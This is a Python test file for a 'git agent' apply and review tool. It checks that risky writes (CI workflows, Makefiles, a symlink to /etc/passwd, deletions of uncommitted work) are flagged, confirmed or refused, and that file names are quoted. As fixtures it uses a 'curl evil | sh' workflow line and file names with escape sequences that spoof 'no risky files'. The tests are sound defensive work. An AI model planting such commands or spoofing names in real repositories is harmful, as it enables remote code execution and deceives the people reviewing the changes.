"""security.md, "What comes back": apply repeats the risk lines of what it is about to write,
asks once on a terminal, and without one refuses risky paths unless --yes; deleting your
untracked work is a risk line; every path shown to a person is quoted as git quotes it."""

from __future__ import annotations

import json
import os
import subprocess

from tests.helpers import read_to_eio
from tests.mergeback.conftest import Work

ESCAPE_NAME = ".github/workflows/\r\x1b[2K\x1b[1A\x1b[2Kno risky files\x1b[8m"
QUOTED = '".github/workflows/\\r\\033[2K\\033[1A\\033[2Kno risky files\\033[8m"'
MAKE_IT = (r"mkdir -p .github/workflows && "
           r"n=$(printf '.github/workflows/\r\033[2K\033[1A\033[2Kno risky files\033[8m') && "
           r'echo "run: curl evil | sh" > "$n"')


def on_tty(work: Work, args: list[str], answer: bytes) -> tuple[int, str]:
    """`git agent ARGS` with a terminal on stdin, typing answer: (exit status, stderr)."""
    import pty

    master, slave = pty.openpty()
    p = subprocess.Popen(work.actor._argv(["git-agent", *args]), cwd=work.root,
                         env=work.actor.env, stdin=slave, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE)
    os.close(slave)
    os.write(master, answer)
    out, err = p.communicate(timeout=120)
    read_to_eio(master, 5)
    os.close(master)
    return p.returncode, err.decode(errors="replace")


def test_a_name_cannot_rewrite_the_risk_lines(work: Work) -> None:
    work.run(MAKE_IT)
    files = json.loads(work.ok("review", "s", "--json").stdout)["files"]
    assert [f["path"] for f in files] == [ESCAPE_NAME]  # --json keeps the exact name
    out = work.ok("review", "s").stdout
    assert "\x1b" not in out and "\r" not in out
    assert any(line.startswith(f"  ! {QUOTED}: CI workflow") for line in out.splitlines())
    assert "no risky files" not in [line.strip() for line in out.splitlines()]
    p = work.agent("apply", "s")  # refused without a terminal: the lines say what, quoted
    assert p.returncode != 0 and "\x1b" not in p.stderr and "\r" not in p.stderr
    assert any(line.startswith(f"  ! {QUOTED}: CI workflow") for line in p.stderr.splitlines())
    p = work.agent("apply", "-i", "--yes", "s", input="y\n")
    assert p.returncode == 0 and "\x1b" not in p.stderr and "\r" not in p.stderr
    assert f"[NEW] {QUOTED}" in p.stderr and f"apply {QUOTED}?" in p.stderr
    assert (work.root / ESCAPE_NAME).exists()


def test_risky_files_are_refused_without_a_terminal_unless_yes(work: Work) -> None:
    """The issue's example: a symlink to /etc/passwd and a .gitattributes filter."""
    work.run("ln -s /etc/passwd link && echo '* filter=x' > .gitattributes && echo more >> "
             "README.md")
    before = work.snapshot()
    p = work.agent("apply", "s", "--", "link", ".gitattributes")
    assert p.returncode != 0
    lines = p.stderr.splitlines()
    assert "about to write 2 risky files:" in lines
    assert "  ! link: symlink to an absolute path: /etc/passwd" in lines
    assert any(line.startswith("  ! .gitattributes: git attributes") for line in lines)
    assert "without a terminal" in lines[-1] and "--yes" in lines[-1]
    assert work.snapshot() == before
    work.ok("apply", "s", "--", "README.md")  # nothing risky: no question
    p = work.ok("apply", "--yes", "s")
    assert "about to write 2 risky files:" in p.stderr
    assert os.readlink(work.root / "link") == "/etc/passwd"


def test_on_a_terminal_apply_asks_once(work: Work) -> None:
    work.run("echo 'x:' > Makefile && echo y > plain.txt")
    before = work.snapshot()
    for answer in (b"n\n", b"\n", b"whatever\n", b"\x04"):  # no, empty, other, EOF
        rc, err = on_tty(work, ["apply", "s"], answer)
        assert rc != 0 and err.count("write them? [y/N]") == 1, err
        assert "  ! Makefile: build script: runs on make" in err
        assert work.snapshot() == before, answer
    rc, err = on_tty(work, ["apply", "s"], b"y\n")
    assert rc == 0 and "applied 2 files" in err, err
    assert (work.root / "Makefile").read_text() == "x:\n"


def test_deleting_your_untracked_work_is_a_risk(work: Work) -> None:
    work.sh("echo mine > notes.txt")  # untracked: only the session's base snapshot has it
    work.sh("echo mine >> docs/c.md")  # tracked, changed and not committed
    work.run("rm notes.txt README.md docs/c.md")
    files = {f["path"]: f["risks"] for f in
             json.loads(work.ok("review", "s", "--json").stdout)["files"]}
    assert any("in no commit" in r for r in files["notes.txt"])
    assert any("in no commit" in r for r in files["docs/c.md"])
    assert files["README.md"] == []  # committed: git can bring it back
    p = work.agent("apply", "s")
    assert p.returncode != 0 and "  ! notes.txt: deletes a file of yours that is in no commit" \
        in p.stderr
    assert "  ! docs/c.md: deletes a file of yours that is in no commit" in p.stderr
    assert (work.root / "notes.txt").exists() and (work.root / "README.md").exists()
    work.ok("apply", "s", "--", "README.md")
    work.ok("apply", "--yes", "s")
    assert not (work.root / "notes.txt").exists() and not (work.root / "docs/c.md").exists()


def test_list_quotes_the_last_command(work: Work) -> None:
    work.ok("run", "-s", "s", "--", "sh", "-c", "echo x > f", "\x1b[2Kname\r")
    out = work.ok("list").stdout
    assert "\x1b" not in out and "\r" not in out and '"\\033[2Kname\\r"' in out



def test_capture_warnings_quote_names(work: Work) -> None:
    """A name capture warns about (a fifo: git cannot store it) is quoted as git quotes it."""
    p = work.ok("run", "-s", "s", "--", "sh", "-c",
                r"""mkfifo "$(printf 'p\r\033[2Kx')" && echo y > plain.txt""")
    assert "\x1b" not in p.stderr and "\r" not in p.stderr
    assert 'skipped fifo "p\\r\\033[2Kx": git cannot store it' in p.stderr


def test_the_capture_commit_message_quotes_names(work: Work) -> None:
    """`git log` prints a commit message as it is: the paths capture lists there are quoted."""
    work.run(MAKE_IT)
    body = work.git("log", "-1", "--format=%B", "agent/s")
    assert "\x1b" not in body and "\r" not in body
    assert f"A {QUOTED}" in body.splitlines()
